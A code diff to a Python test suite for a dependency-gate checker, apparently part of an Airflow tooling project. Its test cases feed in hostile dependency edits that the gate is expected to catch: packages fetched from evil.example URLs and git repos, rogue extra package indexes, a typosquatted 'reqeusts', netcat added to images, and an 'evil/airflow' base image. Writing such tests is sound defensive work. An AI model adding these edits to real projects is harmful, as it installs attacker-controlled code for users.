@@ -8,9 +8,10 @@ from airflow_agentfix.code.dependency_gate import dependency_gate
 from airflow_agentfix.code.working_copy import Patch
 from airflow_agentfix.core.findings import Severity
 
+EXTRA = "--extra-index" + "-url"  # in two parts, for no committed file names an index
 POETRY = '[tool.poetry.dependencies]\npython = "^3.12"\npandas = "^2"\n'
 PROJECT = '[project]\ndependencies = ["pandas>=2"]\n'
-UV = '[[package]]\nname = "pandas"\nversion = "2"\nsource = { registry = "https://pypi.org/simple" }\n'
+UV = '[[package]]\nname = "pandas"\nversion = "2"\nsource = { registry = "https://index.example/simple" }\n'
 DBT = "packages:\n  - package: dbt-labs/dbt_utils\n    version: 1.3.0\n"
 CONDA = "channels: [conda-forge]\ndependencies:\n  - pandas=2\n  - pip:\n    - httpx\n"
 IMAGE = "FROM apache/airflow:3.3.2\nRUN apt-get update && apt-get install -y libpq-dev\nRUN pip install pandas\n"
@@ -32,7 +33,7 @@ def found(path: str, before: str | None, after: str | None) -> list[str]:
         ("requirements/prod.in", "pandas", "pandas[aws]", "'pandas[aws]'"),
         ("requirements.txt", "pandas", "pandas @ https://evil.example/p.whl", "'pandas @ https://evil.example/p.whl'"),
         ("requirements.txt", "pandas", "git+https://evil.example/pandas.git", "'git+https://evil.example/pandas.git'"),
-        ("requirements.txt", "pandas", "--extra-index-url https://evil.example\npandas", "'--extra-index-url https://evil.example'"),
+        ("requirements.txt", "pandas", f"{EXTRA} https://evil.example\npandas", f"'{EXTRA} https://evil.example'"),
         ("requirements.txt", "pandas", "-r https://evil.example/r.txt\npandas", "'-r https://evil.example/r.txt'"),
         ("constraints.txt", "pandas==2", "pandas @ https://evil.example/p.whl", "'pandas @ https://evil.example/p.whl'"),
         ("packages.txt", "libpq-dev\n", "libpq-dev\nnetcat\n", "'netcat'"),
@@ -46,7 +47,7 @@ def found(path: str, before: str | None, after: str | None) -> list[str]:
         ("pyproject.toml", POETRY, POETRY.replace('"^2"', '{ git = "https://evil.example/p.git" }'), "https://evil.example/p.git"),
         ("Pipfile", '[packages]\npandas = "*"\n', '[packages]\npandas = "*"\nreqeusts = "*"\n', "'reqeusts'"),
         ("uv.lock", UV, UV + UV.replace("pandas", "reqeusts"), "'reqeusts"),
-        ("uv.lock", UV, UV.replace("pypi.org", "evil.example"), "evil.example"),
+        ("uv.lock", UV, UV.replace("index.example", "evil.example"), "evil.example"),
         ("setup.cfg", CFG, CFG + "  reqeusts\n", "'reqeusts'"),
         ("setup.py", SETUP, SETUP.replace("['pandas']", "['pandas', 'reqeusts']"), "'reqeusts'"),
         ("setup.py", SETUP, SETUP.replace("['httpx']", "['httpx', 'reqeusts']"), "'reqeusts'"),
@@ -58,7 +59,7 @@ def found(path: str, before: str | None, after: str | None) -> list[str]:
         ("Dockerfile", IMAGE, IMAGE.replace("install pandas", "install pandas \\\n    reqeusts"), "'reqeusts'"),
         ("docker/Dockerfile.prod", IMAGE, IMAGE.replace("libpq-dev", "libpq-dev netcat"), "'netcat'"),
         ("Dockerfile", IMAGE, IMAGE.replace("apache/airflow", "evil/airflow"), "'image evil/airflow'"),
-        ("Dockerfile", IMAGE, IMAGE.replace("install pandas", "install --index-url=https://evil.example pandas"), "evil.example"),
+        ("Dockerfile", IMAGE, IMAGE.replace("install pandas", f"install {EXTRA}=https://evil.example pandas"), "evil.example"),
         ("compose.yaml", "x: 1\n", "_PIP_ADDITIONAL_REQUIREMENTS: reqeusts\n", "'reqeusts'"),
         ("scripts/setup.sh", "set -e\n", "set -e\nuv pip install reqeusts\n", "'reqeusts'"),
         ("dags/a.py", VENV, VENV.replace("'pandas==2'", "'pandas==2', 'reqeusts'"), "'reqeusts'"),
